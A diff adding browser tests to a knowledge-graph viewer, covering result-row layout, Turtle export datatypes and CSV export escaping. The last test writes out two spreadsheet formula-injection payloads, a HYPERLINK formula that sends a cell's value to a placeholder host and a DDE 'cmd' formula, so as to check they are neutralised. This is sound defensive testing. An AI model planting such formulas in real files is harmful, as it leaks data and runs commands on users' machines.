@@ -226,6 +226,24 @@ def test_search_ignores_diacritics_and_shows_the_matches(bundled: Opened, graph)
     assert bundled.drawn() == total
 
 
+@pytest.mark.parametrize("lang", ["en", "vi"])
+def test_a_long_class_name_beside_a_result_leaves_the_name_readable(
+    browser: Browser, lang: str
+) -> None:
+    """On a desktop "Embassy or representative office" took the row and left each embassy's
+    name one letter wide ("E…"): the class name is what gets cut."""
+    opened = open_page(browser, BUNDLED, viewport={"width": 1280, "height": 800})
+    if lang == "vi":
+        opened.page.get_by_text("Tiếng Việt", exact=True).click()
+    opened.page.fill("#search", "embassy" if lang == "en" else "dai su")
+    opened.settle()
+    widths = opened.page.eval_on_selector_all(
+        "#results button[data-node] .name", "ns => ns.map(n => n.getBoundingClientRect().width)"
+    )
+    assert len(widths) >= 2 and min(widths) >= 100, widths
+    opened.page.context.close()
+
+
 def test_searching_an_alias_finds_the_entity(bundled: Opened) -> None:
     bundled.page.fill("#search", "Bo KH&CN")
     bundled.settle()
@@ -833,6 +851,48 @@ def test_the_exports_hold_what_is_shown(bundled: Opened, graph, tmp_path: Path) 
         e.quote for u, v, k, ev in graph.edges(keys=True, data="evidence") if k in shown for e in ev
     }
     assert exacts == quotes
+    # every fact shown, ranks and shares among them: each literal keeps the graph's datatype
+    page.fill("#search", "")
+    bundled.settle()
+    with page.expect_download() as info:
+        page.locator("#export-ttl").click()
+    info.value.save_as(tmp_path / "all.ttl")
+    every = {
+        pyoxigraph.Triple(q.subject, q.predicate, q.object)
+        for q in pyoxigraph.parse((tmp_path / "all.ttl").read_bytes(), pyoxigraph.RdfFormat.TURTLE)
+    }
+    ranks = [t for t in every if str(t.predicate.value).endswith("#rank")]
+    assert ranks and every <= built, sorted(map(str, every - built))[:5]
+
+
+def test_a_label_a_spreadsheet_would_run_is_saved_as_text_in_the_csv(
+    browser: Browser, tmp_path: Path
+) -> None:
+    """A label such as =HYPERLINK(…) or @SUM(…) in "Facts (CSV)" would be a formula when the
+    file is opened in a spreadsheet: such a cell starts with an apostrophe."""
+    import csv
+
+    nq = (GRAPHS / "kg.nq").read_text(encoding="utf-8")
+    formulas = {
+        '"Ministry of Economy, Trade and Industry"@en': '=HYPERLINK("http://e.example/?"&A1,"x")',
+        '"Rapidus"@en': "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    for written, label in formulas.items():
+        assert written in nq
+        nq = nq.replace(written, '"' + label.replace('"', '\\"') + '"@en')
+    (tmp_path / "f.nq").write_text(nq, encoding="utf-8")
+    done = run_kg("html", str(tmp_path / "f.nq"), "-o", str(tmp_path / "f.html"))
+    assert done.returncode == 0, done.stderr
+    opened = open_page(browser, tmp_path / "f.html")
+    with opened.page.expect_download() as info:
+        opened.page.locator("#export-csv").click()
+    info.value.save_as(tmp_path / "f.csv")
+    with (tmp_path / "f.csv").open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    for label in formulas.values():
+        assert "'" + label in cells and label not in cells
+    assert not [c for c in cells if c and c[0] in "=+-@"]
+    opened.page.context.close()
 
 
 # ------------------------------------------------------------------ sources one click away
